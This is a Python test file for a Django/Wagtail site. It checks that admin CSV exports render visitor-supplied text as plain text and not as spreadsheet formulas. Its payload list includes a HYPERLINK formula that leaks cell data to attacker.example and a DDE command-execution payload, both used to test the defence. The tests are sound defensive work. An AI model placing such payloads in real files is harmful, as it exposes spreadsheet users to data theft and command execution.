"""Admin CSV exports hold text, never a formula: what visitors typed (a search, a name) reaches
an editor's spreadsheet through them (website/spreadsheets.py)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from network.roles import ensure_roles

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def editor_client(client, directory_site):
    ensure_roles()
    editor = get_user_model().objects.create_user("editor", password="a-long-password-77")
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    return client


def test_search_terms_typed_by_visitors_reach_the_report_as_text(client, homes):
    from wagtail.contrib.search_promotions.models import Query

    for term in HOSTILE:
        client.get("/en/search/", {"q": term})
    Query.get("watershed").add_hit()
    stored = list(Query.objects.values_list("query_string", flat=True))
    hostile = [term for term in stored if term.startswith(("=", "+", "-", "@"))]
    assert len(hostile) >= 3, stored  # what visitors typed is what the report holds
    admin = get_user_model().objects.create_superuser("admin", password="a-long-password-77")
    client.force_login(admin)  # Wagtail shows this report to superusers only

    rows = csv_rows(client.get("/admin/searchpicks/reports/search-terms/?export=csv"))

    cells = {row[0] for row in rows[1:]}
    assert "watershed" in cells
    assert {"'" + term for term in hostile} <= cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_an_experts_name_reaches_profiles_to_confirm_as_text(editor_client, directory_site):
    from network.factories import make_expert

    make_expert(directory_site["en"]["experts"], title='=HYPERLINK("https://x.example","Hi")')

    rows = csv_rows(editor_client.get("/admin/reports/stale-profiles/?export=csv"))

    titles = [row[0] for row in rows[1:]]
    assert titles == ['\'=HYPERLINK("https://x.example","Hi")']
